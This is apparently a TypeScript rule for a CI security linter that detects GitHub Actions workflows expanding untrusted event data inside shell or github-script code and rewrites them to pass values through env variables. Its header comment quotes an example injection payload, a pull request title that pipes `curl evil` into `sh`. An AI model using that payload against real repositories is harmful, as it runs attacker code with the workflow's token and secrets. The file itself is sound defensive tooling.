/**
 * ci/script-injection: no `${{ }}` expression that an outside contributor controls (issue or pull
 * request title and body, head branch name, comment and review bodies, commit messages and authors:
 * the actionlint and zizmor list) is expanded inside a `run:` script or an actions/github-script
 * `script:`. GitHub pastes the value into the script before the shell parses it, so a PR titled
 * `"; curl evil | sh #` runs code with the workflow's token. The fix moves each expression into an
 * `env:` variable of the step and references it as "$VAR" (or `$env:VAR` in PowerShell).
 */
import { isMap, isScalar, type Node } from 'yaml';
import type { Fix, FileRule, FixChange, RuleFinding } from '../../core/types';
import type { SourceFile } from '../../core/source';
import { actionSlug, expressions, keyColumn, insertLinesAfter, isBlock, pairOf, untrustedRefs, workflowOf, type Job, type Step, type Workflow } from '../lib/workflow';

interface Hit { start: number; end: number; body: string; ref: string }

function varName(ref: string, taken: Set<string>): string {
  const parts = ref.replace(/^github\.(event\.)?/, '').split('.').filter((p) => p !== '*' && !/^\[/.test(p));
  const base = parts.slice(-2).join('_').toUpperCase().replace(/[^A-Z0-9_]/g, '_') || 'UNTRUSTED_INPUT';
  let name = base;
  for (let i = 2; taken.has(name); i++) name = `${base}_${i}`;
  taken.add(name);
  return name;
}

function shellOf(wf: Workflow, job: Job, step: Step): string {
  const s = step.shell ?? job.shell ?? wf.shell;
  if (s) return s.trim().split(/\s+/)[0].toLowerCase();
  return JSON.stringify(job.runsOn ?? '').toLowerCase().includes('windows') ? 'pwsh' : 'bash';
}

/** How a shell script references a variable at a position, given the quotes open on that line. */
function reference(shell: string, name: string, line: string, col: number, after: string): { text: string; widen: number } | undefined {
  if (shell === 'pwsh' || shell === 'powershell') return { text: `$env:${name}`, widen: 0 };
  if (shell === 'cmd') return { text: `%${name}%`, widen: 0 };
  if (!['bash', 'sh', 'zsh', 'dash', 'ksh'].includes(shell)) return undefined;
  let q = '';
  for (let i = 0; i < col; i++) {
    const c = line[i];
    if (q === '' && c === '\\') i++;
    else if (q === '' && (c === '"' || c === "'")) q = c;
    else if (q === c) q = '';
    else if (q === '"' && c === '\\') i++;
  }
  if (q === '"') return { text: `\${${name}}`, widen: 0 };
  if (q === "'") return line[col - 1] === "'" && after.startsWith("'") ? { text: `"$${name}"`, widen: 1 } : { text: `'"$${name}"'`, widen: 0 };
  return { text: `"$${name}"`, widen: 0 };
}

function stepFix(file: SourceFile, wf: Workflow, job: Job, step: Step, hits: Hit[]): Fix | undefined {
  const node = step.runNode as Node | undefined;
  if (!isBlock(step.node) || !isScalar(node) || !['PLAIN', 'BLOCK_LITERAL', 'BLOCK_FOLDED'].includes(String(node.type))) return undefined;
  const shell = shellOf(wf, job, step);
  const envNode = step.envNode;
  if (envNode !== undefined && envNode !== null && !(isMap(envNode) && isBlock(envNode) && envNode.items.length > 0)) return undefined;
  const taken = new Set<string>(isMap(envNode) ? envNode.items.map((p) => String((p.key as { value?: unknown })?.value)) : []);
  const names = new Map<string, string>();
  const changes: FixChange[] = [];
  for (const h of hits) {
    if (!names.has(h.body)) names.set(h.body, varName(h.ref, taken));
    const name = names.get(h.body)!;
    const pos = file.positionAt(h.start);
    const line = file.lines[pos.line] ?? '';
    const ref = reference(shell, name, line, pos.character, file.text.slice(h.end, h.end + 1));
    if (!ref) return undefined;
    changes.push({ kind: 'edit', file: file.path, range: file.rangeOf(h.start - ref.widen, h.end + ref.widen), newText: ref.text });
  }
  const lines = [...names].map(([body, name]) => `${name}: \${{ ${body} }}`);
  const col = keyColumn(file, isMap(envNode) ? envNode : step.node);
  if (col === undefined) return undefined;
  const insert = isMap(envNode) ? insertLinesAfter('', file, envNode, col, lines) : insertLinesAfter('', file, step.node, col, ['env:', ...lines.map((l) => '  ' + l)]);
  return { title: `Pass ${[...names.values()].join(', ')} through env instead of expanding it in the script`, changes: [...changes, ...insert.changes] };
}

function untrustedHits(file: SourceFile, node: unknown): Hit[] {
  const r = (node as Node | undefined)?.range;
  if (!r) return [];
  const hits: Hit[] = [];
  for (const e of expressions(file.text.slice(r[0], r[1]))) {
    const refs = untrustedRefs(e.body);
    if (refs.length > 0) hits.push({ start: r[0] + e.start, end: r[0] + e.end, body: e.body, ref: refs[0] });
  }
  return hits;
}

export const rule: FileRule = {
  id: 'ci/script-injection',
  category: 'ci-cd',
  severity: 'critical',
  level: 'mvp',
  title: 'Scripts never expand untrusted event data',
  rationale: 'Expressions are substituted into a `run:` script before the shell parses it, so an attacker-controlled PR title or branch name becomes code running with the workflow\'s token and secrets.',
  related: [
    { tool: 'zizmor', id: 'template-injection' },
    { tool: 'actionlint', id: 'expression' },
    { tool: 'scorecard', id: 'Dangerous-Workflow' },
  ],
  fixable: true,
  scope: 'file',
  guard: true,
  kinds: ['workflow'],
  checkFile(file) {
    const wf = workflowOf(file);
    if (!wf) return [];
    const findings: RuleFinding[] = [];
    for (const job of wf.jobs) {
      for (const step of job.steps) {
        const run = untrustedHits(file, step.runNode);
        const fix = run.length > 0 ? stepFix(file, wf, job, step, run) : undefined;
        for (const h of run) {
          findings.push({ message: `\`\${{ ${h.body} }}\` is expanded inside the script, and ${h.ref} is written by outside contributors (issue, pull request, branch or commit authors): pass it through an env variable and use "$VAR"`, range: file.rangeOf(h.start, h.end), ...(fix ? { fix } : {}) });
        }
        if (actionSlug(step) === 'actions/github-script' && isMap(step.withNode)) {
          for (const h of untrustedHits(file, pairOf(step.withNode, 'script')?.value)) {
            findings.push({ message: `\`\${{ ${h.body} }}\` is expanded inside the github-script code: pass it through \`env:\` and read \`process.env.VAR\``, range: file.rangeOf(h.start, h.end) });
          }
        }
      }
    }
    return findings;
  },
};
